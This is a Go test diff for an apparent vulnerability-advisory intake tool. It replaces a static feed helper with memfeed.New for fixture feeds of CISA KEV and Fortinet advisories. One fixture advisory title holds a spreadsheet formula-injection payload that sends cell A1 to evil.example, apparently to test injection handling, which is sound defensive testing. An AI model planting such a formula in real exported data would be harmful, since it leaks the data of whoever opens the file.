@@ -7,6 +7,7 @@ import (
 	"time"
 
 	"github.com/sigwatch/sigwatch/feeds"
+	"github.com/sigwatch/sigwatch/feeds/memfeed"
 	"github.com/sigwatch/sigwatch/intake"
 	"github.com/sigwatch/sigwatch/kpi"
 	"github.com/sigwatch/sigwatch/register"
@@ -84,10 +85,6 @@ func kevAdvisory(id, vendor, product, title, ransomware string) feeds.Advisory {
 	}
 }
 
-func static(name string, advs ...feeds.Advisory) feeds.Source {
-	return feeds.SourceFunc(name, func(context.Context) ([]feeds.Advisory, error) { return advs, nil })
-}
-
 // fixture is a register and the cases of a real pipeline run at fixed
 // times:
 //
@@ -121,12 +118,12 @@ func newFixture(t testing.TB) fixture {
 		Affected: []feeds.Affected{{Vendor: "Fortinet", Product: "FortiOS", Ranges: []feeds.Range{{Type: "SEMVER",
 			Events: []feeds.Event{{Introduced: "7.2.0"}, {Fixed: "7.2.7"}}}}}}}
 	p, err := intake.New([]feeds.Source{
-		static("cisa-kev",
+		memfeed.New("cisa-kev",
 			kevAdvisory("CVE-2024-21762", "Fortinet", "FortiOS", "Fortinet FortiOS Out-of-Bound Write", "Known"),
 			kevAdvisory("CVE-2023-22518", "Atlassian", "Confluence Data Center and Server", "Atlassian Confluence Improper Authorization", "Known"),
 			kevAdvisory("CVE-2025-0001", "Example", "Widget", `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, "Unknown"),
 		),
-		static("fortinet-psirt", vendor),
+		memfeed.New("fortinet-psirt", vendor),
 	}, eng, &intake.Options{Register: reg, Now: clk.Now, Concurrency: 1})
 	if err != nil {
 		t.Fatal(err)
